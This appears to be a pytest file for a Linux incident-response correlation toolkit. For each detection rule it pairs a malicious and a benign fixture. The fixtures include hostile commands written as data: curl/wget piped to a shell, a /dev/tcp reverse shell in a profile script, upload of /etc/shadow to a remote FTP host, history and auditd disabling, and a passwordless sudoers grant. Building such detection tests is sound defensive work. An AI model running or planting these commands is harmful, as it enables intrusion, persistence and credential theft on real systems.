"""Every rule of the catalogue: a positive (the behaviour, under names no lab uses, beside a clean
server's noise) and a negative (the clean server plus a near miss). Tables are hand-made in the
engines' shapes (tests/helpers/rule_cases.py); correlation runs for real on them."""

from __future__ import annotations

import pandas as pd
import pytest

from tests.helpers.rule_cases import AFTER_BOOT, BEFORE_BOOT, benign_server, proc, sock, with_rows
from toolkit.correlate.findings import correlate_snapshot
from toolkit.correlate.rules import RULES
from toolkit.correlate.vocabulary import real_path, user_writable
from toolkit.schemas import SEVERITY_RANK

SID = "s1"
B = benign_server
NEXT_PERSISTENCE = f"persistence:{len(B()['disk/persistence'])}"  # the row a positive case appends


def run_rule(rule_id: str, tables: dict) -> pd.DataFrame:
    findings, problems, _ = correlate_snapshot(tables, SID, rules={rule_id: RULES[rule_id]})
    assert problems.empty, problems.to_dict("records")
    return findings


def _elf(n=64) -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(n)


def _flow(fid, **kw):
    row = {
        "flow_id": fid,
        "proto": "tcp",
        "src_ip": "10.0.2.15",
        "src_port": 41000,
        "dst_ip": "198.51.100.20",
        "dst_port": 7443,
        "first_ts": AFTER_BOOT,
    }
    return {**row, **kw}


CASES: dict[str, dict] = {
    "proc.kernel_thread_masquerade": {
        "positive": lambda: with_rows(B(), memory_processes=[proc(900, "ksoftirqd/3", "/usr/local/lib/.cache/sd")]),
        "entity": "process:900",
        "severity": "high",
        "negative": lambda: with_rows(
            B(), memory_processes=[proc(9, "kworker/0:1-events", None, ppid=2, is_kernel_thread=True)]
        ),
    },
    "proc.deleted_executable": {
        "positive": lambda: with_rows(
            B(), memory_processes=[proc(901, "agentd", "/opt/agent/agentd (deleted)", exe_deleted=True)]
        ),
        "entity": "process:901",
        "severity": "high",
        # an upgrade replaced a running daemon: the package installs a file at that path now
        "negative": lambda: with_rows(
            B(), memory_processes=[proc(902, "ls", "/usr/bin/ls (deleted)", exe_deleted=True)]
        ),
        "negative_low": True,
    },
    "proc.memfd_executable": {
        "positive": lambda: with_rows(B(), memory_processes=[proc(903, "3", "/memfd:  (deleted)", exe_deleted=True)]),
        "entity": "process:903",
        "severity": "high",
        "negative": B,
    },
    "proc.suspicious_exec_path": {
        "positive": lambda: with_rows(
            B(),
            memory_processes=[proc(904, "python3", "/usr/bin/python3.11")],
            memory_cmdlines=[{"pid": 904, "args": "python3 /var/tmp/.pip/setup.py"}],
        ),
        "entity": "process:904",
        "severity": "medium",
        "negative": B,  # python3 running /opt/inventory/app.py (root-owned) as its service user
    },
    "proc.shell_on_socket": {
        "positive": lambda: with_rows(
            B(),
            memory_processes=[proc(905, "bash", "/usr/bin/bash", ppid=1)],
            memory_sockets=[
                sock(905, "bash", fd, "10.0.2.15", 51515, "203.0.113.50", 8443, "ESTABLISHED", inode=77)
                for fd in (0, 1, 2)
            ],
        ),
        "entity": "process:905",
        "severity": "high",
        # the service's stdout is a unix socket; an interactive bash sits on a pty
        "negative": B,
    },
    "proc.service_spawned_shell": {
        "positive": lambda: with_rows(
            B(),
            memory_processes=[proc(906, "sh", "/usr/bin/dash", ppid=401, uid=33)],
            memory_cmdlines=[{"pid": 906, "args": "sh -c id;uname -a"}],
            memory_open_files=[{"pid": 906, "fd": 0, "path": "pipe:[5555]"}],
        ),
        "entity": "process:906",
        "severity": "high",
        # sshd's session starts shells (the session process listens on nothing); the app runs a script
        "negative": lambda: with_rows(
            B(),
            memory_processes=[proc(907, "python3", "/usr/bin/python3.11", ppid=500, uid=999)],
            memory_cmdlines=[{"pid": 907, "args": "/usr/bin/python3 /opt/inventory/worker.py"}],
        ),
    },
    "proc.hidden": {
        "positive": lambda: with_rows(
            B(), memory_processes=[{"pid": 908, "ppid": 1, "process": "syslogd", "in_list": False, "in_scan": True}]
        ),
        "entity": "process:908",
        "severity": "high",
        "negative": lambda: with_rows(
            B(),
            memory_processes=[
                {"pid": 909, "process": "curl", "in_list": False, "in_scan": True, "exit_state": "EXIT_DEAD"}
            ],
        ),
    },
    "proc.unexpected_listener": {
        "positive": lambda: with_rows(
            B(),
            memory_processes=[proc(910, "bash", "/usr/bin/bash")],
            memory_sockets=[sock(910, "bash", 3, "0.0.0.0", 31337, "0.0.0.0", 0, "LISTEN")],
        ),
        "entity": "process:910",
        "severity": "high",
        # sshd, nginx and the python service listen; so does a service run as a module (python3 -m)
        "negative": lambda: with_rows(
            B(),
            memory_processes=[proc(912, "python3", "/usr/bin/python3.11")],
            memory_cmdlines=[{"pid": 912, "args": "/usr/bin/python3 -m uvicorn api:app --port 8000"}],
            memory_sockets=[sock(912, "python3", 5, "0.0.0.0", 8000, "0.0.0.0", 0, "LISTEN")],
        ),
    },
    "mem.injected_code": {
        "positive": lambda: with_rows(
            B(),
            memory_malfind=[
                {"pid": 300, "process": "sshd", "start": 0x7F0000000000, "protection": "rwx", "hexdump": _elf()}
            ],
        ),
        "entity": "process:300",
        "severity": "high",
        "negative": lambda: with_rows(
            B(),
            memory_processes=[proc(911, "java", "/usr/lib/jvm/bin/java")],
            memory_malfind=[{"pid": 911, "process": "java", "start": 0x7F00, "protection": "rwx", "hexdump": b"\x90"}],
        ),
        "negative_low": True,
    },
    "mem.preload_environment": {
        "positive": lambda: with_rows(
            B(),
            memory_processes=[proc(912, "bash", "/usr/bin/bash"), proc(913, "sleep", "/usr/bin/sleep", ppid=912)],
            memory_envars=[
                {"pid": 912, "process": "bash", "key": "LD_PRELOAD", "value": "/var/tmp/.fonts/libgl.so"},
                {"pid": 913, "process": "sleep", "key": "LD_PRELOAD", "value": "/var/tmp/.fonts/libgl.so"},
            ],
        ),
        "entity": "process:912",
        "severity": "high",
        "negative": B,  # LD_LIBRARY_PATH is no preload
    },
    "mem.preload_config_mapped": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "ld_preload",
                    "path": "/etc/ld.so.preload",
                    "command": "/usr/lib/libsysstat.so.2",
                    "program": "/usr/lib/libsysstat.so.2",
                    "program_path": "/usr/lib/libsysstat.so.2",
                }
            ],
            memory_maps=[{"pid": 300, "process": "sshd", "path": "/usr/lib/libsysstat.so.2", "flags": "r-x"}],
        ),
        "entity": "file:/usr/lib/libsysstat.so.2",
        "severity": "high",
        "negative": B,
    },
    "mem.library_from_unusual_path": {
        "positive": lambda: with_rows(
            B(), memory_maps=[{"pid": 300, "process": "sshd", "path": "/dev/shm/.x/libpam2.so", "flags": "r-x"}]
        ),
        "entity": "process:300",
        "severity": "high",
        "negative": B,  # a tmpfs cache mapped read-write, libc mapped executable
    },
    "history.download_execute": {
        "positive": lambda: with_rows(
            B(),
            memory_processes=[proc(914, "bash", "/usr/bin/bash")],
            memory_shell_history=[
                {"pid": 914, "process": "bash", "command": "wget -qO- http://198.51.100.9:81/i | sh"}
            ],
        ),
        "entity": "process:914",
        "severity": "high",
        "negative": B,  # curl ... | head
    },
    "history.tampering": {
        "positive": lambda: with_rows(
            B(),
            memory_processes=[proc(915, "bash", "/usr/bin/bash")],
            memory_shell_history=[{"pid": 915, "process": "bash", "command": "export HISTFILE=/dev/null"}],
        ),
        "entity": "process:915",
        "severity": "high",
        "negative": B,  # history -a
    },
    "history.disable_logging": {
        "positive": lambda: with_rows(
            B(),
            disk_shell_history=[
                {"user": "root", "command": "systemctl mask --now auditd", "path": "/root/.bash_history"}
            ],
        ),
        "entity": "file:/root/.bash_history",
        "severity": "high",
        "negative": B,  # journalctl -n, ls /var/log, systemctl status
    },
    "kernel.hidden_module": {
        "positive": lambda: with_rows(
            B(), memory_modules=[{"name": "nf_aux", "in_list": False, "in_sysfs": True, "hidden": True}]
        ),
        "entity": "module:nf_aux",
        "severity": "critical",
        "negative": B,
    },
    "kernel.module_not_from_kernel": {
        "positive": lambda: with_rows(
            B(),
            memory_modules=[{"name": "vfat_helper", "in_list": True, "in_sysfs": True, "hidden": False}],
            disk_files=[{"path": "/var/tmp/vfat_helper.ko", "type": "file", "mode": 0o644}],
        ),
        "entity": "module:vfat_helper",
        "severity": "high",
        "negative": B,  # ext4, shipped under /usr/lib/modules/<release>
    },
    "kernel.hooks": {
        "positive": lambda: with_rows(
            B(),
            memory_kernel_checks=[
                {
                    "check": "check_syscall",
                    "item": "sys_call_table[62]",
                    "suspicious": True,
                    "detail": "handler outside any known kernel symbol",
                }
            ],
        ),
        "entity": "kernel:check_syscall",
        "severity": "critical",
        "negative": lambda: with_rows(
            B(),
            memory_kernel_checks=[
                {"check": "check_syscall", "item": "sys_call_table[0]", "symbol": "sys_read", "suspicious": False},
                {"check": "modules", "item": "nf_aux", "suspicious": True},  # kernel.hidden_module's evidence
            ],
        ),
    },
    "persist.systemd_unusual": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "systemd",
                    "path": "/etc/systemd/system/dbus-sync.service",
                    "command": "/usr/bin/python3 /dev/shm/.s/sync.py",
                    "program": "/dev/shm/.s/sync.py",
                    "program_path": "/dev/shm/.s/sync.py",
                }
            ],
        ),
        "entity": NEXT_PERSISTENCE,
        "severity": "high",
        # the python service's unit, and a stock unit running /bin/bash beside an interactive bash
        "negative": B,
    },
    "persist.cron_unusual": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "cron",
                    "path": "/var/spool/cron/crontabs/www-data",
                    "schedule": "*/10 * * * *",
                    "command": "curl -fsSL http://198.51.100.3/u | bash",
                    "program": "curl",
                    "program_path": "/usr/bin/curl",
                }
            ],
        ),
        "entity": NEXT_PERSISTENCE,
        "severity": "high",
        "negative": B,  # the health check curl appends to a log
    },
    "persist.at_job": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "at",
                    "path": "/var/spool/cron/atjobs/a0001201c",
                    "command": "/dev/shm/.u/run --once",
                    "program": "/dev/shm/.u/run",
                }
            ],
        ),
        "entity": NEXT_PERSISTENCE,
        "severity": "high",
        "negative": B,
    },
    "persist.init_script": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "rc",
                    "path": "/etc/rc.local",
                    "program": "/etc/rc.local",
                    "program_path": "/etc/rc.local",
                    "command": "#!/bin/sh\nnohup /var/tmp/.d/upd >/dev/null 2>&1 &\nexit 0\n",
                }
            ],
        ),
        "entity": NEXT_PERSISTENCE,
        "severity": "high",
        "negative": B,  # the packaged /etc/init.d/ssh names /var/run/sshd.pid
    },
    "persist.ld_preload": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "ld_preload",
                    "path": "/etc/ld.so.preload",
                    "command": "/lib/libc.so.7",
                    "program": "/lib/libc.so.7",
                }
            ],
        ),
        "entity": "file:/lib/libc.so.7",
        "severity": "high",
        "negative": B,
    },
    "persist.shell_profile_exec": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "shell_rc",
                    "path": "/etc/profile.d/locale-fix.sh",
                    "program": "/etc/profile.d/locale-fix.sh",
                    "program_path": "/etc/profile.d/locale-fix.sh",
                    "command": "export LANG=C.UTF-8\n(bash -i >& /dev/tcp/198.51.100.4/993 0>&1 &)\n",
                }
            ],
        ),
        "entity": NEXT_PERSISTENCE,
        "severity": "high",
        "negative": B,  # skel's .bashrc: lesspipe and aliases
    },
    "persist.udev_run": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "udev",
                    "path": "/etc/udev/rules.d/75-net-fix.rules",
                    "command": "/bin/sh -c '/var/tmp/.n/hook &'",
                    "program": "/var/tmp/.n/hook",
                    "user": "root",
                }
            ],
        ),
        "entity": NEXT_PERSISTENCE,
        "severity": "high",
        "negative": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "udev",
                    "path": "/usr/lib/udev/rules.d/60-persistent-storage.rules",
                    "command": "/usr/lib/udev/scsi_id --whitelisted",
                    "program": "/usr/lib/udev/scsi_id",
                    "program_path": "/usr/lib/udev/scsi_id",
                    "user": "root",
                }
            ],
            disk_package_files=[{"package": "udev", "path": "/usr/lib/udev/rules.d/60-persistent-storage.rules"}],
        ),
    },
    "persist.ssh_key": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "authorized_keys",
                    "path": "/root/.ssh/authorized_keys",
                    "user": "root",
                    "ts": AFTER_BOOT,
                    "detail": "ssh-rsa backup@build",
                }
            ],
        ),
        "entity": "file:/root/.ssh/authorized_keys",
        "severity": "medium",
        "negative": B,  # alice's key, from before boot, is noted low
        "negative_low": True,
    },
    "persist.uid0_account": {
        "positive": lambda: with_rows(
            B(), disk_users=[{"user": "systemd-coredump2", "uid": 0, "shell": "/bin/sh", "home": "/"}]
        ),
        "entity": "account:systemd-coredump2",
        "severity": "high",
        "negative": B,
    },
    "persist.sudoers_grant": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {"kind": "sudoers", "path": "/etc/sudoers.d/90-cloud", "command": "www-data ALL=(ALL) NOPASSWD:ALL"}
            ],
        ),
        "entity": NEXT_PERSISTENCE,
        "severity": "high",
        "negative": B,  # %sudo and root in the packaged file; alice's standing grant is noted low
        "negative_low": True,
    },
    "persist.setuid_unpackaged": {
        "positive": lambda: with_rows(
            B(), disk_files=[{"path": "/var/tmp/.x/dbus-helper", "type": "file", "uid": 0, "mode": 0o4755}]
        ),
        "entity": "file:/var/tmp/.x/dbus-helper",
        "severity": "high",
        "negative": B,  # /usr/bin/passwd is setuid and packaged
    },
    "tamper.package_file_modified": {
        "positive": lambda: with_rows(
            B(), disk_files=[{"path": "/usr/bin/ls", "type": "file", "mode": 0o755, "md5": "f" * 32}]
        ),
        "entity": "file:/usr/bin/ls",
        "severity": "high",
        "negative": B,
    },
    "tamper.timestomp": {
        "positive": lambda: with_rows(
            B(),
            disk_files=[
                {
                    "path": "/usr/lib/x86_64-linux-gnu/libaudit-ng.so.1",
                    "type": "file",
                    "mode": 0o644,
                    "mtime": pd.Timestamp("2019-03-01T00:00:00Z"),
                    "ctime": AFTER_BOOT,
                    "btime": AFTER_BOOT,
                }
            ],
        ),
        "entity": "file:/usr/lib/x86_64-linux-gnu/libaudit-ng.so.1",
        "severity": "medium",
        "negative": B,  # libc.so.6 keeps its build's mtime, as dpkg unpacked it
    },
    "tamper.log_tampering": {
        "positive": lambda: with_rows(
            B(),
            disk_files=[
                {"path": "/var/log/wtmp.1", "type": "file", "size": 0, "ctime": AFTER_BOOT, "btime": BEFORE_BOOT}
            ],
        ),
        "entity": "file:/var/log/wtmp.1",
        "severity": "medium",
        "negative": B,  # auth.log changed after boot but is not empty
    },
    "history.exfiltration": {
        "positive": lambda: with_rows(
            B(),
            memory_processes=[proc(930, "bash", "/usr/bin/bash", ppid=600)],
            memory_shell_history=[
                {"pid": 930, "process": "bash", "command": "curl -s -T /etc/shadow ftp://198.51.100.77/in/"}
            ],
        ),
        "entity": "process:930",
        "severity": "high",
        # a JSON body posted to the service on the same machine
        "negative": lambda: with_rows(
            B(),
            memory_shell_history=[
                {"pid": 601, "process": "bash", "command": "curl -d @item.json http://127.0.0.1:8081/items"}
            ],
        ),
    },
    "tamper.logging_config": {
        "positive": lambda: with_rows(
            B(),
            disk_persistence=[
                {"kind": "log_config", "path": "/etc/rsyslog.d/10-quiet.conf", "command": "authpriv.* stop"}
            ],
            disk_files=[{"path": "/etc/rsyslog.d/10-quiet.conf", "type": "file", "btime": AFTER_BOOT}],
        ),
        "entity": "file:/etc/rsyslog.d/10-quiet.conf",
        "severity": "high",
        # a property filter that trims one chatty program, and a packaged volatile-journal drop-in
        "negative": lambda: with_rows(
            B(),
            disk_persistence=[
                {
                    "kind": "log_config",
                    "path": "/etc/rsyslog.d/30-noise.conf",
                    "command": ':programname, isequal, "timesyncd" stop',
                },
                {
                    "kind": "log_config",
                    "path": "/usr/lib/systemd/journald.conf.d/cloud.conf",
                    "command": "Storage=volatile",
                },
            ],
            disk_package_files=[{"package": "cloud-init", "path": "/usr/lib/systemd/journald.conf.d/cloud.conf"}],
        ),
    },
    "net.unexpected_outbound": {
        "positive": lambda: with_rows(
            B(),
            memory_processes=[proc(916, "bash", "/usr/bin/bash")],
            memory_sockets=[sock(916, "bash", 3, "10.0.2.15", 47000, "198.51.100.61", 53, "ESTABLISHED")],
        ),
        "entity": "process:916",
        "severity": "high",
        "negative": B,  # the python service talks to its collector; its journald stdout is a unix socket
    },
    "net.periodic_beacon": {
        "positive": lambda: with_rows(
            B(),
            network_flows=[
                _flow(
                    "b1",
                    beacon_intervals=9,
                    beacon_interval_mean=30.0,
                    beacon_interval_cv=0.03,
                    beacon_size_mean=96.0,
                    beacon_size_cv=0.0,
                )
            ],
            # the agent holds the connection: a program of no package, in no hidden place, no unit
            memory_processes=[proc(920, "agentd", "/usr/local/bin/agentd")],
            memory_sockets=[sock(920, "agentd", 4, "10.0.2.15", 41000, "198.51.100.20", 7443, "ESTABLISHED")],
        ),
        "entity": "process:920",
        "severity": "medium",
        # a heartbeat every 5 s that a timer declares (low), and a chatty flow of varying sizes
        "negative": lambda: with_rows(
            B(),
            network_flows=[
                _flow(
                    "v1",
                    beacon_intervals=9,
                    beacon_interval_mean=30.0,
                    beacon_interval_cv=0.03,
                    beacon_size_mean=900.0,
                    beacon_size_cv=0.9,
                )
            ],
        ),
        "negative_low": True,
    },
    "net.mining_protocol": {
        "positive": lambda: with_rows(B(), network_flows=[_flow("m1", dst_port=443, app_proto="stratum")]),
        "entity": "flow:m1",
        "severity": "high",
        "negative": lambda: with_rows(B(), network_flows=[_flow("m2", dst_port=443, app_proto="tls")]),
    },
    "net.dns_tunnel": {
        "positive": lambda: with_rows(
            B(),
            network_dns=[
                {
                    "qr": "query",
                    "qname": f"{'a9f3b27c1d' * 5}.{k}.t.example.net",
                    "qname_longest_label": 50,
                    "qname_entropy": 3.9,
                    "src_ip": "10.0.2.15",
                    "dst_ip": "198.51.100.53",
                    "flow_id": "dns1",
                }
                for k in range(3)
            ],
        ),
        "entity": "flow:dns1",
        "severity": "high",
        "negative": B,  # deb.debian.org through the configured resolver
    },
    "net.login_peer_contacted": {
        "positive": lambda: with_rows(
            B(),
            disk_logs=[
                {
                    "ts": AFTER_BOOT,
                    "log": "authlog",
                    "service": "sshd",
                    "message": "Accepted password for alice from 198.51.100.77 port 52000 ssh2",
                    "path": "/var/log/auth.log",
                }
            ],
            memory_processes=[proc(917, "curl", "/usr/bin/curl")],
            memory_sockets=[sock(917, "curl", 5, "10.0.2.15", 45500, "198.51.100.77", 8000, "ESTABLISHED")],
        ),
        "entity": "process:917",
        "severity": "medium",
        "negative": B,  # logins from 127.0.0.1; loopback contacts
    },
    "yara.match": {
        "positive": lambda: with_rows(
            B(),
            yara_matches=[{"target": "process", "rule": "Miner_Config", "pid": 500, "offset": 1, "severity": "high"}],
        ),
        "entity": "process:500",
        "severity": "high",
        "negative": B,
    },
    "sigma.match": {
        "positive": lambda: with_rows(
            B(),
            sigma_matches=[
                {
                    "sigma_id": "x-1",
                    "title": "Suspicious curl",
                    "severity": "medium",
                    "table": "memory/processes",
                    "row": 0,
                    "pid": 601,
                    "description": "curl | sh",
                    "evidence": '[{"table": "memory/processes", "snapshot_id": "s1", "row": 6}]',
                }
            ],
        ),
        "entity": "process:601",
        "severity": "medium",
        "negative": B,
    },
}


def test_every_rule_has_a_positive_and_a_negative_case():
    assert set(CASES) == set(RULES)
    for rule_id, case in CASES.items():
        assert {"positive", "entity", "severity", "negative"} <= set(case), rule_id


def test_the_clean_server_alone_raises_nothing_of_medium_or_more():
    findings, problems, _ = correlate_snapshot(B(), SID)
    assert problems.empty
    loud = findings[findings["severity_rank"] >= SEVERITY_RANK["medium"]]
    assert loud.empty, loud[["rule_id", "entity", "explanation"]].to_dict("records")


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_fires_on_the_behaviour(rule_id):
    case = CASES[rule_id]
    findings = run_rule(rule_id, case["positive"]())
    mine = findings[findings["entity"] == case["entity"]]
    assert len(mine), findings[["entity", "severity", "explanation"]].to_dict("records")
    assert mine["severity"].iloc[0] == case["severity"], mine["explanation"].iloc[0]
    assert mine["explanation"].iloc[0] and mine["evidence"].iloc[0] != "[]"
    others = findings[(findings["entity"] != case["entity"]) & (findings["severity_rank"] >= SEVERITY_RANK["medium"])]
    assert others.empty, others[["entity", "explanation"]].to_dict("records")


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_stays_quiet_on_the_near_miss(rule_id):
    case = CASES[rule_id]
    findings = run_rule(rule_id, case["negative"]())
    loud = findings[findings["severity_rank"] >= SEVERITY_RANK["medium"]]
    assert loud.empty, loud[["entity", "explanation"]].to_dict("records")
    if not case.get("negative_low"):
        assert findings.empty, findings[["entity", "severity", "explanation"]].to_dict("records")


def test_symbolic_links_are_followed_before_permissions_are_read():
    files = {
        "/sbin": {"type": "symlink", "mode": 0o777, "uid": 0, "link_target": "usr/sbin"},
        "/usr/sbin": {"type": "dir", "mode": 0o755, "uid": 0},
        "/opt/w": {"type": "dir", "mode": 0o777, "uid": 0},
        "/usr/local/bin/run": {"type": "symlink", "mode": 0o777, "uid": 0, "link_target": "../../../opt/w/run"},
        "/loop": {"type": "symlink", "link_target": "/loop"},
    }
    assert real_path(files, "/sbin/quotaon") == "/usr/sbin/quotaon"
    assert user_writable(files, "/sbin/quotaon") is None
    assert real_path(files, "/usr/local/bin/run") == "/opt/w/run"
    assert "writable by everyone" in user_writable(files, "/usr/local/bin/run")
    assert real_path(files, "/loop/x") == "/loop/x"  # a loop of links ends, unresolved


def test_a_shared_interpreter_ties_nothing_together():
    """The issue's false chains: a reverse shell's chain pulled in the python service, and a stock
    disabled unit (debug-shell.service, ExecStart=/bin/bash) was tied to an interactive bash, because
    they run the same interpreter binary. A shared binary is no identity: neither may appear."""
    tables = CASES["proc.shell_on_socket"]["positive"]()
    findings, _, _ = correlate_snapshot(tables, SID)
    shell = findings[findings["entity"] == "process:905"]
    assert len(shell)
    for row in shell.to_dict("records"):
        assert "pid 500" not in row["chain"] and "inventory" not in row["chain"], (row["rule_id"], row["chain"])
    for row in findings.to_dict("records"):
        assert "debug-shell" not in row["chain"] + row["explanation"], (row["rule_id"], row["chain"])
    bash = findings[findings["entity"] == "process:601"]  # the interactive bash over ssh
    assert bash.empty, bash[["rule_id", "explanation"]].to_dict("records")
